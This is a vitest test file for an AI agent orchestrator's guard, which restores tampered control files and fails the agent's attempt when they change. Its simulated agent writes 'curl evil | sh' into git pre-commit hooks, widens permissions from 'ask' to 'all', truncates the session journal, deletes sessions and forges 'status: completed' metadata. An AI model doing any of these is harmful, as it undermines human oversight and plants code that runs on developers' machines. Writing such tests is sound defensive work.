import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import type { Backend } from '../../src/agents/port.ts';
import { isStillHeld } from '../../src/engine/invocation/session-shadow.ts';
import { createSimulatedSession } from '../helpers/engine-session.ts';
import type { SimulatedDisk } from '../helpers/simulated-disk.ts';

const plan = `goal: Ship it
tasks:
  - {id: one, title: One, verify: ['true']}
  - {id: two, title: Two, verify: ['true']}
`;
const done = { kind: 'answered', answer: { status: 'completed' } } as const;

/** What an agent does in a task. `wait` lets the session's clock go on. */
type Work = (disk: SimulatedDisk, task: string, wait: (ms: number) => Promise<void>) => Promise<void> | void;

/** An agent with a model whose turns do `work`, and whose process does `atEnd` after them. */
const agentOf = (
  work: (task: string) => Promise<void> | void,
  atEnd: (task: string) => Promise<void> | void,
): Backend => ({
  name: 'mine',
  label: 'an agent',
  model: { tools: false },
  start: ({ task }, { output }) => ({
    turn: async () => {
      output(new TextEncoder().encode('begins\n'), 'stdout');
      await work(task?.id ?? '');
      return done;
    },
    end: async () => atEnd(task?.id ?? ''),
    stop: async () => {},
  }),
});

const at = (path: string): string => join('/work', path);

const removeAll = (disk: SimulatedDisk, path: string): void => {
  if (disk.lstat(path)?.kind !== 'directory') {
    disk.unlink(path);
    return;
  }
  for (const name of disk.readdir(path)) removeAll(disk, join(path, name));
  disk.rmdir(path);
};

/** A whole session whose agent does `work` once, in task one. */
const sessionWith = async (files: Readonly<Record<string, string>>, work: Work, atEnd: Work = () => {}) => {
  const wait = (ms: number) => new Promise<void>((resolve) => void session.clock.after(ms, resolve));
  const session = createSimulatedSession({
    plan,
    settings: {
      roles: { executor: 'mine' },
      planning: { max_cycles: 0 },
      retries: { max_attempts: 1, backoff: [0] },
    },
    shadow: '/home/kim/shadow',
    instructions: () => '# Mine',
    isAgreed: (file, bytes) =>
      `${file}: ${new TextDecoder().decode(bytes)}` === '.ralph/guidance.yaml: agreed',
    backends: [
      agentOf(
        (task) => work(session.disk, task, wait),
        (task) => atEnd(session.disk, task, wait),
      ),
    ],
  });
  const { disk } = session;
  for (const [path, text] of Object.entries(files)) {
    disk.mkdir(dirname(at(path)));
    disk.put(at(path), text, path.includes('hooks') ? 0o755 : 0o644);
  }
  const engine = session.begin();
  expect(await engine.start()).toBeNull();
  await session.settle(engine);
  const said = session
    .all('problem.found')
    .map(({ fault }) => fault)
    .filter(({ code }) => code.startsWith('control-file'));
  const read = (path: string): string | null => (disk.lstat(at(path)) ? disk.text(at(path)) : null);
  const kept = (): readonly string[] =>
    disk.lstat(join(session.paths.directory, 'kept'))
      ? disk
          .readdir(join(session.paths.directory, 'kept'))
          .map((name) => read(join('.ralph-sessions/260215-101500/kept', name)) ?? '')
      : [];
  const failed = session.all('task.failed').map(({ task, reason }) => `${task}: ${reason}`);
  return { session, disk, read, said, kept, failed };
};

const once =
  (work: (...args: Parameters<Work>) => Promise<void> | void): Work =>
  async (disk, task, wait) => {
    if (task === 'one') await work(disk, task, wait);
  };

const sessions = at('.ralph-sessions');

const repository = {
  '.git/config': '[core]\n',
  '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
  '.ralph/config.yaml': 'permissions: ask\n',
  '.ralph/prompts/implement.md': '# Ours\n',
};

test('a hook that an agent changes is brought back with its mode, and the other text is kept', async () => {
  const { read, said, kept, disk } = await sessionWith(
    repository,
    once((inside) => inside.put(at('.git/hooks/pre-commit'), 'curl evil | sh\n', 0o777)),
  );
  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
  expect(disk.lstat(at('.git/hooks/pre-commit'))?.mode).toBe(0o755);
  expect(kept()).toEqual(['curl evil | sh\n']);
  expect(said).toMatchObject([
    {
      what: expect.stringMatching(
        /^Executor-\d+ changed \.git\/hooks\/pre-commit; it was restored; the changed text is kept in /,
      ),
    },
  ]);
});

test('an agent that deletes .ralph finds it again', async () => {
  const { read, said } = await sessionWith(
    repository,
    once((inside) => removeAll(inside, at('.ralph'))),
  );
  expect(read('.ralph/config.yaml')).toBe(repository['.ralph/config.yaml']);
  expect(read('.ralph/prompts/implement.md')).toBe(repository['.ralph/prompts/implement.md']);
  expect(said.map(({ what }) => what)).toEqual([
    expect.stringContaining('deleted .ralph/config.yaml'),
    expect.stringContaining('deleted .ralph/prompts/implement.md'),
  ]);
});

test('an agent that deletes the session, as git clean -fdx does, finds it again, and its attempt failed', async () => {
  const { read, said, failed, session } = await sessionWith(
    repository,
    once((inside) => removeAll(inside, sessions)),
  );
  expect(failed).toEqual([expect.stringMatching(/^one: it changed or deleted \.ralph-sessions\//)]);
  expect(said.map(({ what }) => what)).toEqual([
    expect.stringMatching(/^Executor-\d+ deleted .* and \d+ more from this session; they were restored$/),
  ]);
  const journal = read('.ralph-sessions/260215-101500/journal.jsonl') ?? '';
  expect(journal.split('\n').filter((line) => line !== '')).toHaveLength(
    session.events.filter(({ type }) => type !== 'output.written').length,
  );
  expect(read('.ralph-sessions/260215-101500/metadata.yaml')).toContain('status');
});

test('what was written while the agent worked comes back as it was written last, and is no edit of a person', async () => {
  const { read, failed, session } = await sessionWith(
    repository,
    once(async (inside, _task, wait) => {
      // Task two ends meanwhile, and `progress.md` and `metadata.yaml` are written again.
      await wait(10_000);
      removeAll(inside, sessions);
    }),
  );
  expect(failed).toEqual([expect.stringMatching(/^one: it changed or deleted \.ralph-sessions\//)]);
  expect([...session.all('task.edited-by-hand'), ...session.all('metadata.edited-by-hand')]).toEqual([]);
  expect(read('.ralph-sessions/260215-101500/logs/one-r1.log')).toBe('begins\n');
});

test('an agent that cuts the journal finds it whole again, and its attempt failed', async () => {
  const journal = '.ralph-sessions/260215-101500/journal.jsonl';
  const { read, said, failed, session } = await sessionWith(
    repository,
    once((inside) => {
      const handle = inside.openAppend(at(journal));
      inside.truncate(handle, 0);
      inside.close(handle);
    }),
  );
  expect(failed).toEqual([`one: it changed or deleted ${journal}`]);
  expect(said.map(({ what }) => what)).toEqual([
    expect.stringMatching(/^Executor-\d+ truncated journal\.jsonl from \d+ to 0 bytes; it was restored$/),
  ]);
  expect((read(journal) ?? '').split('\n').filter((line) => line !== '')).toHaveLength(
    session.events.filter(({ type }) => type !== 'output.written').length,
  );
});

test('a lock that is deleted again while it comes back is still ours; one that another program holds is not', () => {
  let deleted = 2;
  const repair = (): void => {
    deleted -= 1;
  };
  const shadow = { repair };
  expect(isStillHeld(shadow, { isStillOurs: () => deleted <= 0 })).toBe(true);
  expect(isStillHeld(shadow, { isStillOurs: () => false })).toBe(false);
});

test('an agent that deletes only the lock, whose heartbeat stays, does not end the session', async () => {
  const { failed, session } = await sessionWith(
    repository,
    once(async (inside, _task, wait) => {
      const lock = at('.ralph-sessions/260215-101500/lock');
      for (const name of inside.readdir(lock)) if (name !== 'heartbeat') inside.unlink(join(lock, name));
      await wait(10_000);
    }),
  );
  expect(failed).toEqual(['one: it changed or deleted .ralph-sessions/260215-101500/lock/1']);
  expect(session.all('session.stopped')).toHaveLength(1);
});

test('other sessions that an agent deletes come back, too; of more than 10 the oldest are told as gone', async () => {
  const ids = Array.from({ length: 11 }, (_, number) => `2601${String(number + 1).padStart(2, '0')}-101500`);
  const files = Object.fromEntries(
    ids.flatMap((id) => [
      [`.ralph-sessions/${id}/journal.jsonl`, `{"of": "${id}"}\n`],
      [`.ralph-sessions/${id}/logs/one-r1.log`, `${id}\n`],
    ]),
  );
  const { read, said, failed } = await sessionWith(
    { ...repository, ...files },
    once((inside) => {
      for (const id of ids) removeAll(inside, join(sessions, id));
    }),
  );
  expect(ids.map((id) => read(`.ralph-sessions/${id}/logs/one-r1.log`))).toEqual(
    ids.map((id, index) => (index === 0 ? null : `${id}\n`)),
  );
  expect(failed).toEqual(['one: it changed or deleted .ralph-sessions/260102-101500 and 10 more']);
  expect(said.map(({ what }) => what)).toEqual([
    expect.stringMatching(
      /^Executor-\d+ deleted 10 other sessions \(260109-101500, 260110-101500, 260111-101500 and more\); all files were restored$/,
    ),
    expect.stringMatching(
      /^Executor-\d+ deleted another session \(260101-101500\); nothing could be restored$/,
    ),
  ]);
});

test('harm to our files or those of git fails the attempt; changed settings of an agent do not', async () => {
  const config = once((inside) => inside.put(at('.ralph/config.yaml'), 'permissions: all\n'));
  expect((await sessionWith(repository, config)).failed).toEqual([
    'one: it changed or deleted .ralph/config.yaml',
  ]);
  const settings = once((inside) => {
    inside.mkdir(at('.claude'));
    inside.put(at('.claude/settings.local.json'), '{}');
  });
  expect((await sessionWith(repository, settings)).failed).toEqual([]);
});

test('harm that an agent does after its last turn, while its process ends, fails the attempt, too', async () => {
  const config = once((inside) => inside.put(at('.ralph/config.yaml'), 'permissions: all\n'));
  const { failed, read } = await sessionWith(repository, () => {}, config);
  expect(failed).toEqual(['one: it changed or deleted .ralph/config.yaml']);
  expect(read('.ralph/config.yaml')).toBe('permissions: ask\n');
});

test('harm that is found in two looks is all named, whichever look came first', async () => {
  const file = '.ralph-sessions/260215-101500/metadata.yaml';
  const { failed } = await sessionWith(
    repository,
    once(async (inside, _task, wait) => {
      inside.put(at(file), 'status: completed\n');
      // The session writes the file again meanwhile, and finds the foreign text.
      await wait(10_000);
      removeAll(inside, at('.ralph'));
    }),
  );
  expect(failed).toEqual([`one: it changed or deleted ${file} and 2 more`]);
});

test('an agent that writes over metadata.yaml fails its attempt, and what it wrote is never adopted', async () => {
  const file = '.ralph-sessions/260215-101500/metadata.yaml';
  const theirs = 'status: completed\norchestrator:\n  state: COMPLETE\n';
  const { read, said, kept, failed, session } = await sessionWith(
    repository,
    once((inside) => inside.put(at(file), theirs)),
  );
  expect(read(file)).toMatch(/session_id|orchestrator/);
  expect(said.map(({ what }) => what)).toEqual([
    expect.stringMatching(
      /^Executor-\d+(, Executor-\d+)? changed \.ralph-sessions\/260215-101500\/metadata\.yaml; it was restored; the changed text is kept in /,
    ),
  ]);
  expect(kept()).toEqual([theirs]);
  expect(failed).toEqual([`one: it changed or deleted ${file}`]);
  expect(session.all('metadata.edited-by-hand')).toEqual([]);
});

test('settings and hooks that were not there are taken away and kept', async () => {
  const { read, kept, said } = await sessionWith(
    repository,
    once((inside) => {
      inside.mkdir(at('.claude'));
      inside.put(at('.claude/settings.json'), '{"hooks": {}}');
      inside.put(at('.git/hooks/post-commit'), 'evil');
      inside.put(at('.mcp.json'), '{}');
    }),
  );
  expect(['.claude/settings.json', '.git/hooks/post-commit', '.mcp.json'].map(read)).toEqual([
    null,
    null,
    null,
  ]);
  expect([...kept()].sort()).toEqual(['evil', '{"hooks": {}}', '{}']);
  expect(said).toHaveLength(3);
});

test('a link in place of a directory does not lead our bytes elsewhere', async () => {
  const { read, disk } = await sessionWith(
    { ...repository, 'elsewhere/pre-commit': 'mine\n' },
    once((inside) => {
      removeAll(inside, at('.git/hooks'));
      inside.putSymlink(at('.git/hooks'), at('elsewhere'));
    }),
  );
  expect(disk.lstat(at('.git/hooks'))?.kind).toBe('directory');
  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
  expect(read('elsewhere/pre-commit')).toBe('mine\n');
});

test('of two agents at work both are named, and neither change is taken for ours', async () => {
  const first = Promise.withResolvers<void>();
  const { read, said } = await sessionWith(repository, async (disk, task) => {
    if (task === 'one') {
      disk.put(at('.git/config'), 'evil');
      first.resolve();
    } else await first.promise;
  });
  expect(read('.git/config')).toBe(repository['.git/config']);
  expect(said).toMatchObject([{ what: expect.stringMatching(/^Executor-\d+(, Executor-\d+)? changed/) }]);
});

test('what an agent may do is left alone: memory files, scans, its own work', async () => {
  const { read, said } = await sessionWith(
    { ...repository, 'AGENTS.md': 'old' },
    once((inside) => {
      inside.put(at('AGENTS.md'), 'new');
      inside.put(at('.ralph/constraint-scan.jsonl'), '{}');
      inside.put(at('src.ts'), 'x');
    }),
  );
  expect(['AGENTS.md', '.ralph/constraint-scan.jsonl'].map(read)).toEqual(['new', '{}']);
  expect(said).toEqual([]);
});

test('work of others in the worktrees of Claude Code stays', async () => {
  const { read, said } = await sessionWith(
    { ...repository, '.claude/worktrees/fix/src.ts': 'old', '.claude/worktrees/fix/gone.ts': 'x' },
    once((inside) => {
      inside.put(at('.claude/worktrees/fix/src.ts'), 'new');
      inside.unlink(at('.claude/worktrees/fix/gone.ts'));
      inside.mkdir(at('.claude/worktrees/other'));
      inside.put(at('.claude/worktrees/other/src.ts'), 'of a subagent');
    }),
  );
  expect(
    ['fix/src.ts', 'fix/gone.ts', 'other/src.ts'].map((file) => read(`.claude/worktrees/${file}`)),
  ).toEqual(['new', null, 'of a subagent']);
  expect(said).toEqual([]);
});

test('a hook is brought back however many settings of agents there are', async () => {
  const skills = Object.fromEntries(
    Array.from({ length: 2_100 }, (_, number) => [`.claude/skills/${number}/SKILL.md`, 'x']),
  );
  const { read } = await sessionWith(
    { ...repository, ...skills },
    once((inside) => inside.put(at('.git/hooks/pre-commit'), 'curl evil | sh\n')),
  );
  expect(read('.git/hooks/pre-commit')).toBe(repository['.git/hooks/pre-commit']);
});

test('the other texts of many changed settings are all kept, and 20 of them are named', async () => {
  const names = Array.from({ length: 25 }, (_, number) => `.claude/skills/skill-${number}.md`);
  const { read, said, kept } = await sessionWith(
    repository,
    once((inside) => {
      inside.mkdir(at('.claude/skills'));
      for (const name of names) inside.put(at(name), name);
    }),
  );
  expect(names.map(read)).toEqual(names.map(() => null));
  expect([...kept()].toSorted()).toEqual(names.toSorted());
  expect(said).toHaveLength(21);
  expect(said.at(-1)?.what).toMatch(
    /^Executor-\d+ changed 5 more control files; they were restored, and the changed versions are kept in \.ralph-sessions\/260215-101500\/kept$/,
  );
});

test('a large file among the settings of agents is moved to the kept texts, and not deleted', async () => {
  const large = 'x'.repeat(1_048_577);
  const { read, kept } = await sessionWith(
    repository,
    once((inside) => {
      inside.mkdir(at('.claude/skills'));
      inside.put(at('.claude/skills/fonts.ttf'), large);
    }),
  );
  expect(read('.claude/skills/fonts.ttf')).toBeNull();
  expect(kept().map((text) => text.length)).toEqual([large.length]);
});

test('the control files of a linked worktree are those of its main one', async () => {
  const { read, said } = await sessionWith(
    {
      '.git': 'gitdir: /work/main/.git/worktrees/x\n',
      'main/.git/worktrees/x/commondir': '../..\n',
      'main/.git/config': '[core]\n',
    },
    once((inside) => inside.put(at('main/.git/config'), 'evil')),
  );
  expect(read('main/.git/config')).toBe('[core]\n');
  expect(said).toHaveLength(1);
});

test('a workspace that is a folder of its repository has the hooks of that guarded, too', async () => {
  const hook = '../.git/hooks/pre-commit';
  const { read, said, failed } = await sessionWith(
    { '../.git/HEAD': 'ref: refs/heads/main\n', [hook]: 'exit 0\n' },
    once((inside) => inside.put(at(hook), 'curl evil | sh\n')),
  );
  expect(read(hook)).toBe('exit 0\n');
  expect(said).toHaveLength(1);
  expect(failed).toEqual([`one: it changed or deleted ${hook}`]);
});

test('what a person changed and agreed to meanwhile stays', async () => {
  const { read, said } = await sessionWith(repository, (disk, task) => {
    disk.put(at('.ralph/guidance.yaml'), task === 'one' ? 'agreed' : 'not agreed');
  });
  expect(read('.ralph/guidance.yaml')).toBe('agreed');
  expect(said).toMatchObject([{ what: expect.stringContaining('changed .ralph/guidance.yaml') }]);
});
